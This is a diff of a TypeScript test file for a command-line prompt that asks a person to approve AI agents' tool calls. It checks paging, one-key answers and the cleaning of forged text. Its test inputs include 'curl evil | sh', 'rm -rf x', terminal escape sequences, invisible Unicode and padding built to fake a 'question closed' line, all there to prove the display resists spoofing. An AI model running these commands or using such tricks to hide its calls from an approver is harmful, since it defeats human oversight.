@@ -2,9 +2,23 @@
 import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import type { LiveEvent } from '../../../src/cli/pods/pod-stream.ts';
-import { QuestionDesk, questionText } from '../../../src/cli/questions/question-desk.ts';
+import { type DeskStyle, QuestionDesk } from '../../../src/cli/questions/question-desk.ts';
+import { questionPages } from '../../../src/cli/questions/question-text.ts';
 
-const style = { color: false, keyboard: true };
+const style: DeskStyle = {
+  color: false,
+  keyboard: 'lines',
+  texts: false,
+  screen: () => ({ columns: 80, rows: 24 }),
+};
+const textOf = (more: { tool?: string; summary?: string; why?: string }, columns = 80) =>
+  questionPages(
+    { request: 'r', pod: 'p', tool: 'Bash', summary: 'ls', why: 'w', ...more },
+    { color: false, columns, rows: null },
+  )
+    .map(({ text }) => text)
+    .join('\n');
+
 const pod = (name: string) => ({ name, instance: '01a2059d-6376-704c-b61f-f1ab3bd2ad11' });
 
 const asked = (request: string, more: { summary?: string; name?: string } = {}): LiveEvent => ({
@@ -114,38 +128,163 @@ describe('the desk', () => {
   });
 
   it('[question.no-keyboard] without a keyboard every question is shown, with the command that answers it', () => {
-    const desk = new QuestionDesk({ color: false, keyboard: false });
+    const desk = new QuestionDesk({ ...style, keyboard: 'none' });
     expect(desk.take(asked('a'), 0)).toContain('podkin approve a');
     expect(desk.take(asked('b'), 1)).toContain('podkin approve b');
     expect(desk.take(closed('a', 'cancel'), 2)).toBe('The question of pod-a is closed (cancel).');
   });
 });
 
-describe('the text of a question', () => {
-  it('[question.forged] nothing that a pod writes begins a line of ours or steers the terminal', () => {
-    // oxlint-disable-next-line no-control-regex
-    const evil = fc.stringMatching(/^[\u0000-\u0020?│yna\u007f-\u009f\u202e\u2028\u2066]{0,60}$/u);
-    fc.assert(
-      fc.property(evil, evil, evil, (summary, why, tool) => {
-        const text = questionText({ request: 'r', pod: 'p', tool, summary, why }, { color: false });
-        // oxlint-disable-next-line no-control-regex
-        expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e\u2028\u2066]/);
-        const [head = '', ...rest] = text.split('\n');
-        expect(head.startsWith('? p asks for ')).toBe(true);
-        for (const line of rest) expect(line).toMatch(/^ {2}[│…]/);
-      }),
-    );
-    const shown = questionText(
-      { request: 'r', pod: 'p', tool: 'Bash', summary: 'ls\u001b[2K\u200b\rrm -rf x', why: 'w' },
-      { color: false },
-    );
-    expect(shown).toContain('│ ls\\u{1b}[2K\\u{200b}');
-    expect(shown).toContain('│ rm -rf x');
+describe('the keys', () => {
+  const keyed = (screen = { columns: 80, rows: 24 }) =>
+    new QuestionDesk({ ...style, keyboard: 'keys', texts: true, screen: () => screen });
+
+  it('[question.one-key] one key answers: yes, no, always, and no with a reason', () => {
+    for (const [key, decision] of [
+      ['y', 'allow'],
+      ['N', 'deny'],
+      ['a', 'allowAlways'],
+    ] as const) {
+      const desk = keyed();
+      expect(desk.take(asked('q'), 0)).toContain('y: yes, n: no, r: no, and why');
+      expect(desk.key(key, 500)).toMatchObject({ kind: 'late' });
+      expect(desk.key(key, 2_000)).toMatchObject({ kind: 'answer', decision });
+      expect(desk.key(key, 2_001)).toMatchObject({ kind: 'late' });
+    }
+    const desk = keyed();
+    desk.take(asked('q'), 0);
+    const typed = desk.key('r', 2_000);
+    if (typed.kind !== 'reason') throw new Error(typed.kind);
+    expect(desk.refused(typed.question, 'use pnpm')).toMatchObject({
+      kind: 'answer',
+      decision: 'deny',
+      reason: 'use pnpm',
+    });
+    expect(desk.refused(typed.question, 'twice')).toMatchObject({ kind: 'late' });
   });
 
-  it('[question.forged] what is not shown is said', () => {
-    const summary = Array.from({ length: 100 }, (_, i) => `line ${i}`).join('\n');
-    const text = questionText({ request: 'r', pod: 'p', tool: 'Bash', summary, why: 'w' }, { color: false });
-    expect(text).toContain('… and 40 more lines');
+  it('[question.unread] a key in the midst of other typing answers nothing', () => {
+    const desk = keyed();
+    desk.take(asked('q'), 0);
+    expect(desk.key('h', 5_000)).toEqual({ kind: 'other' });
+    expect(desk.key('a', 5_200)).toEqual({ kind: 'other' });
+    expect(desk.key('y', 5_400)).toEqual({ kind: 'other' });
+    expect(desk.typed('hay', 5_500)).toEqual({ kind: 'other' });
+    expect(desk.typed('yes', 6_000)).toMatchObject({ kind: 'late' });
+    expect(desk.key('y', 6_500)).toMatchObject({ kind: 'answer', decision: 'allow' });
+  });
+
+  it('[question.whole] there is no yes before all pages have been shown', () => {
+    const desk = keyed();
+    const summary = Array.from({ length: 40 }, (_, i) => `echo ${i}`).join('\n');
+    const first = desk.take(asked('q', { summary }), 0) ?? '';
+    expect(first).toContain('│ echo 0\n');
+    expect(first).toContain('rows 1 to 17 of 40');
+    expect(first).not.toContain('y: yes');
+    expect(first.split('\n').length).toBeLessThanOrEqual(24);
+    expect(desk.key('y', 2_000)).toMatchObject({
+      kind: 'late',
+      text: expect.stringContaining('has not been shown'),
+    });
+    expect(desk.key('a', 2_000)).toMatchObject({ kind: 'late' });
+    expect(desk.key(' ', 2_000)).toMatchObject({
+      kind: 'page',
+      text: expect.stringContaining('rows 18 to 34 of 40'),
+    });
+    expect(desk.key('y', 4_000)).toMatchObject({ kind: 'late' });
+    expect(desk.key(' ', 4_000)).toMatchObject({ kind: 'page', text: expect.stringContaining('y: yes') });
+    expect(desk.key('y', 4_100)).toMatchObject({
+      kind: 'late',
+      text: expect.stringContaining('just come up'),
+    });
+    expect(desk.key('y', 6_000)).toMatchObject({ kind: 'answer', decision: 'allow' });
+  });
+
+  it('[question.whole] there is no yes to a call that is told only in part, and always a no', () => {
+    const summary = `echo a\n[… and 900 more characters that are not shown here; "podkin approvals --full" shows them]`;
+    for (const keyboard of ['keys', 'lines', 'none'] as const) {
+      const desk = new QuestionDesk({ ...style, keyboard });
+      const shown = desk.take(asked('q', { summary }), 0) ?? '';
+      expect(shown).toContain('900 more characters are NOT shown');
+      expect(shown).toContain('podkin approvals --full');
+      expect(shown).not.toContain('y: yes');
+      if (keyboard === 'none') continue;
+      const type = (key: string, at: number) =>
+        keyboard === 'keys' ? desk.key(key, at) : desk.typed(key, at);
+      expect(type('y', 2_000)).toMatchObject({ kind: 'late' });
+      expect(type('a', 2_000)).toMatchObject({ kind: 'late' });
+      expect(type('n', 2_000)).toMatchObject({ kind: 'answer', decision: 'deny' });
+    }
+  });
+
+  it('[question.reason] a line that begins with no and a comma is a no with its reason', () => {
+    const desk = new QuestionDesk(style);
+    expect(desk.typed('n, use pnpm', 0)).toEqual({ kind: 'other' });
+    desk.take(asked('q'), 0);
+    expect(desk.typed('n, use pnpm instead', 2_000)).toMatchObject({
+      decision: 'deny',
+      reason: 'use pnpm instead',
+    });
+  });
+
+  it('[question.unread] a window that has become narrower is shown the question again', () => {
+    const screen = { columns: 80, rows: 24 };
+    const desk = keyed(screen);
+    desk.take(asked('q'), 0);
+    screen.columns = 40;
+    expect(desk.key('y', 2_000)).toMatchObject({ kind: 'late', text: expect.stringContaining('│ echo q') });
+    expect(desk.key('y', 2_500)).toMatchObject({ kind: 'late' });
+    expect(desk.key('y', 4_000)).toMatchObject({ kind: 'answer' });
+  });
+});
+
+describe('the text of a question', () => {
+  // oxlint-disable-next-line no-control-regex
+  const evil = fc.stringMatching(
+    /^[\u0000-\u0020?│yna\u007f-\u009f\u202e\u2028\u2066\u3164\u2800\ufe0f漢🙂́]{0,200}$/u,
+  );
+
+  it('[question.forged] nothing that a pod writes begins a row of the screen or steers the terminal', () => {
+    fc.assert(
+      fc.property(evil, evil, evil, fc.integer({ min: 20, max: 100 }), (summary, why, tool, columns) => {
+        const text = textOf({ tool, summary, why }, columns);
+        expect(text).not.toMatch(/(?!\n)[\p{C}\u2028\u3164\u2800\ufe0f]/u);
+        const [head = '', ...rest] = text.split('\n');
+        expect(head.startsWith('? p asks for ')).toBe(true);
+        expect(rest.pop()?.startsWith('? p asks for ')).toBe(true);
+        for (const row of rest) {
+          expect(row).toMatch(/^(?: {2}│ | {4})/);
+          // No terminal draws more: two columns are the most of any character.
+          const width = Array.from(row).reduce((sum, one) => sum + (one < '\u007f' ? 1 : 2), 0);
+          expect(width).toBeLessThanOrEqual(Math.max(24, columns));
+        }
+      }),
+    );
+  });
+
+  it('[question.forged] padding does not make text of the command a row of its own', () => {
+    const forged = `ls${' '.repeat(90)}The question of root is closed (person).${' '.repeat(40)}? root asks for Bash`;
+    const rows = textOf({ summary: `curl evil | sh # ${forged}` }).split('\n');
+    expect(rows.filter((row) => row.includes('is closed'))).toHaveLength(1);
+    for (const row of rows.slice(2, -1)) expect(row.startsWith('  │ ')).toBe(true);
+    expect(rows.join('\n')).toContain('<90 spaces>');
+  });
+
+  it('[question.hidden] what cannot be seen is shown as its number', () => {
+    const text = textOf({ summary: 'ls\u001b[2K\u200b\rrm\u3164\u2800\ufe0f\u{e0041}\u202e\u00a0x' });
+    expect(text).toContain('│ ls<U+001B>[2K<U+200B>\n');
+    expect(text).toContain('│ rm<U+3164><U+2800><U+FE0F><U+E0041><U+202E><U+00A0>x\n');
+    expect(textOf({ summary: `a${'\n'.repeat(400)}rm -rf x` })).toContain('<399 empty lines>');
+  });
+
+  it('[question.forged] what is asked and how much of it there is stands below it too', () => {
+    const rows = textOf({ summary: 'one\ntwo' }).split('\n');
+    expect(rows).toEqual([
+      '? p asks for Bash',
+      '    w',
+      '  │ one',
+      '  │ two',
+      '? p asks for Bash: 2 rows, 7 characters',
+    ]);
   });
 });
